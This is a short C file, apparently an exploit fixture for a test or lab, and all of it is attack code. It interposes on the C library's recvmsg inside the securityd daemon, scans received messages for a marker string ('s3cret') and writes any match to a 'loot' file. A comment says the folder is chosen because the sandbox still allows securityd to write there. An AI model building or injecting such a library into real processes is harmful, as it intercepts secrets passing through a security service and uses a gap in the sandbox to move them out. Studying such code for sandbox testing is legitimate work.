/* A library in securityd that records all received messages: its recvmsg replaces that of the C library. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

ssize_t recvmsg(int socket, struct msghdr *message, int flags) {
    static ssize_t (*real)(int, struct msghdr *, int);
    if (!real) real = (ssize_t(*)(int, struct msghdr *, int))dlsym(RTLD_NEXT, "recvmsg");
    ssize_t length = real(socket, message, flags);
    const char *home = getenv("CHATELAINE_HOME");
    const char *found = length > 0 ? memmem(message->msg_iov[0].iov_base, (size_t)length, "s3cret", 6) : NULL;
    if (!home || !found) return length;
    char path[4096];
    /* The sandbox still lets securityd write to this folder. */
    snprintf(path, sizeof path, "%s/data/loot", home);
    int loot = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    if (loot >= 0 && write(loot, "s3cret\n", 7) == 7) close(loot);
    return length;
}
